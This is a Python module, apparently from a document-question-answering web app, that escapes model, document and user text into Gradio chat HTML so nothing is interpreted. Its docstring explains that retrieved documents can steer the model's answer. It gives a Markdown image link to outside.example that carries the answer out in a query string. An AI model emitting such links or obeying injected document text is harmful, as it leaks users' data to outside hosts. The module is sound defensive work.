"""The chat's HTML: the model's answer and the passages it stands on, with every character of model,
document and user text escaped, so the only markup the browser gets is the markup written here.

A model's answer is not trusted text: a document can tell it what to write, and Markdown such as
`![](http://outside.example/?q=<the answer>)` makes the browser send data to another origin with
no click. So nothing from the model or a document is ever interpreted: it is `html.escape`d, and
only two kinds of link exist, both ours:

- a citation `[n]` naming one of the `n_sources` passages becomes `<a href="#source-n" class="cite">`,
  a jump within the page to that passage (any other `[n]` stays text);
- a link to the app's own document route, `/documents/...`, made only by `internal_link`, which
  refuses anything but a relative path under that route (the route is not built yet: no link to
  it is emitted for now).

Sources show the file name, page and heading of a passage (`Passage.label()`), never the server's
absolute path, and "text from OCR" when the passage was read from a scan (it may hold misreadings). Limitation: the path relative to the folder it was ingested from would be more
useful, but the ingested roots live in the manifest and are not in a chunk's metadata; until they
are, the file name is all that is shown.

How Gradio 6.31's `gr.Chatbot` treats a message's text (read in gradio/components/chatbot.py and
the frontend bundle templates/frontend/assets/: markdown-code-*.js, browser-*.js, Index-*.js):

- Python side: a string message becomes a TextMessage through `inspect.cleandoc` (leading and
  trailing blank lines and common indentation dropped), nothing else.
- `render_markdown=True` (the default) parses the text with `marked` (GFM: images, links,
  autolinks and raw HTML all pass through), and code blocks tagged `mermaid` are drawn by mermaid.
  `render_markdown=False` inserts the string as HTML as it is (`template.innerHTML`) and gives the
  bubble `white-space: pre-line`.
- `sanitize_html=True` (the default) runs an allowlist sanitiser (amuchina, Sanitizer API
  defaults, `<style>`/`<link>`/`<meta>` removed) before insertion: it drops scripts, event handlers
  and `javascript:` links, but KEEPS `<img src=...>`, `style=` attributes and links to any origin
  (adding target=_blank). It stops script, not a request leaving the page, so it cannot be the
  defence here; it stays on as a second layer behind the escaping, and the content security
  policy of ui/web/security.py is the third.
- `latex_delimiters` (default `$$...$$`) runs KaTeX over any message holding both delimiters,
  with or without Markdown; `[]` turns it off.
- `allow_tags` (default True) escapes the `<` of tags Gradio does not know before sanitising;
  False leaves the string alone. The markup written here uses standard tags only.
- `reasoning_tags` (default None) would cut text between given tags out into a separate message.

Decision: the web app passes the strings made here (`question_html`, `answer_html` + `sources_html`)
as message contents of a Chatbot built with `CHATBOT_OPTIONS`:

    gr.Chatbot(..., render_markdown=False, sanitize_html=True, latex_delimiters=[], allow_tags=False,
               reasoning_tags=None)

Checked in Chromium against a real Chatbot (tests/ui/test_render.py): with the default options a
raw hostile answer made the page request outside.example three times (two images, a `style`
background) although `sanitize_html` was on; with these options and this module's HTML it
requested nothing, showed every hostile string as text, and kept our `a.cite` and
`details#source-n` through Gradio's sanitiser.

With `render_markdown=False` a bare string is HTML, so every message, the user's own question
included, must come from this module. The output holds no newline (a line break of the text is a
`<br>`), so it looks the same with or without `pre-line` and survives `cleandoc`.
"""
from __future__ import annotations

import html
import re
from typing import Sequence
from urllib.parse import quote, urlsplit

from assistant.passage import Passage

# gr.Chatbot(**CHATBOT_OPTIONS): our HTML as it is, nothing of the text interpreted (see above).
CHATBOT_OPTIONS = {"render_markdown": False, "sanitize_html": True, "latex_delimiters": [], "allow_tags": False,
                   "reasoning_tags": None}

DOCUMENT_ROUTE = "/documents/"
SNIPPET_CHARS = 220

_CITATION = re.compile(r"\[(\d+)\]")  # citations.py has already written each as one [n]
_ANCHOR = re.compile(r"[a-z][a-z0-9-]*")
_UNSAFE_IN_PATH = re.compile(r"[\x00-\x1f\x7f\\]")


def _text(text: str) -> str:
    """Model, document or user text as HTML that shows exactly that text and means nothing."""
    escaped = html.escape(text.replace("\r\n", "\n").replace("\r", "\n"), quote=True)
    return escaped.replace("\n", "<br>")


def _anchor(anchor: str) -> str:
    if not _ANCHOR.fullmatch(anchor):
        raise ValueError(f"not an anchor name: {anchor!r}")
    return anchor


def status_html(text: str) -> str:
    """A line of our own (searching, writing, pick a collection), styled apart from answers."""
    return f'<p class="status"><em>{_text(text)}</em></p>'


def question_html(text: str) -> str:
    """The user's question as a chat message (shown as typed, never interpreted)."""
    return f'<div class="question">{_text(text)}</div>'


def answer_html(text: str, n_sources: int, *, anchor: str = "source") -> str:
    """The model's answer, escaped, with each citation of a shown source a link to that source.

    `anchor` names the sources' ids (`source-1`, ...); a page showing several answers can give
    each its own so that a citation jumps to its own answer's source."""
    anchor = _anchor(anchor)

    def cite(match: re.Match) -> str:
        number = int(match.group(1))
        if not 1 <= number <= n_sources:
            return match.group(0)
        return f'<a href="#{anchor}-{number}" class="cite">[{number}]</a>'

    # Escaping leaves `[`, `]` and digits as they are, so markers are found in the escaped text.
    return f'<div class="answer">{_CITATION.sub(cite, _text(text))}</div>'


def sources_html(passages: Sequence[Passage], heading: str, *, anchor: str = "source",
                 quotes: Sequence[str] = ()) -> str:
    """The passages under a heading, numbered as the answer cites them; each opens to its text,
    with the sentence(s) the answer relies on (`quotes`, one string per passage) highlighted."""
    if not passages:
        return ""
    anchor = _anchor(anchor)
    items = []
    for number, passage in enumerate(passages, 1):
        snippet = " ".join(passage.text.split())
        short = snippet[:SNIPPET_CHARS] + ("…" if len(snippet) > SNIPPET_CHARS else "")
        quote = " ".join(quotes[number - 1].split()) if number <= len(quotes) else ""
        ocr = ('<em class="ocr" title="read by OCR from a scan: check the original">text from OCR</em> '
               if passage.ocr_confidence is not None else "")
        items.append(f'<details class="source" id="{anchor}-{number}"><summary><strong>[{number}] '
                     f'{_text(passage.label())}</strong> {ocr}— {_text(short)}</summary>'
                     f'<p class="passage">{_highlighted(snippet, quote)}</p></details>')
    title = f'<p class="sources-heading"><strong>{_text(heading)}</strong></p>'
    return f'<div class="sources">{title}{"".join(items)}</div>'


def _highlighted(text: str, quote: str) -> str:
    """The text, escaped, with the quote's first occurrence in <mark>."""
    start = text.find(quote) if quote else -1
    if start < 0:
        return _text(text)
    end = start + len(quote)
    return f"{_text(text[:start])}<mark>{_text(quote)}</mark>{_text(text[end:])}"


def internal_link(path: str) -> str:
    """The href of a page of the app's document route: `path` must be an absolute path under
    /documents/ on this same origin (no scheme, host, query, fragment, backslash, control character
    or `.`/`..` segment); anything else is refused with ValueError. The result is percent-encoded
    (a space or quote of a file name included), so it is safe inside a quoted attribute."""
    if not isinstance(path, str) or not path.startswith(DOCUMENT_ROUTE) or _UNSAFE_IN_PATH.search(path):
        raise ValueError(f"not a link to the document route: {path!r}")
    parts = urlsplit(path)
    if parts.scheme or parts.netloc or parts.query or parts.fragment or parts.path != path:
        raise ValueError(f"not a link to the document route: {path!r}")
    if any(segment in (".", "..") for segment in path.split("/")):
        raise ValueError(f"not a link to the document route: {path!r}")
    return html.escape(quote(path, safe="/"), quote=True)
